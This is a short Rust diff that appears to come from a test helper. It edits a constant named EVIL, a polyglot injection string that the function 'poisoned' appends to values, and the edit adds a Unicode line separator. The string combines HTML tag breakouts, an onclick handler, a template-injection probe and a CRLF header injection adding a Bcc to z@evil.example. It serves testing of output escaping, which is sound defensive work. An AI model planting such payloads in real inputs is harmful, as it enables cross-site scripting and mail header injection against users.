@@ -11,7 +11,7 @@ use serde_json::Value;
 use crate::dom::Document;
 
 /// Closes an attribute, a tag, a title and a script, opens others, and is a template, an entity and another line.
-const EVIL: &str = "\"'>--></title></script></textarea><b id=x onclick=y>&lt;{{ 7919*7907 }}{% raw %}\r\nBcc: z@evil.example";
+const EVIL: &str = "\"'>--></title></script></textarea><b id=x onclick=y>&lt;{{ 7919*7907 }}{% raw %}\r\n\u{2028}Bcc: z@evil.example";
 
 /// Adds it to every string but those that are one of ours: names of states, ids and languages are in small letters alone.
 fn poisoned(value: Value) -> Value {
